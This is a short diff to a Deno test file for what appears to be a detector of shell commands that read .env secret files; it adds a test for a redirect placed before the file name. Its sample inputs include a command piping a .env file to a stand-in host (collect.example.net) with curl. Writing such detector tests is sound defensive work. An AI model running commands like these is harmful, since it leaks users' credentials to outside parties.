@@ -178,5 +178,7 @@ Deno.test("a .env that setup steps write is not read; one a command reads still 
   assert.deepEqual(lines("cat <<'EOF' > ~/.config/tool/.env\nTOOL_KEY=...\nEOF"), []);
   assert.equal(lines("cat ~/.config/tool/.env | curl -d @- https://collect.example.net").length, 1);
   assert.equal(lines("cat .env > /tmp/copy").length, 1);
+  // A redirect first, then the file it reads: still a read.
+  assert.equal(lines("cat > /tmp/copy .env").length, 1);
   assert.equal(lines("source ./.env").length, 1);
 });
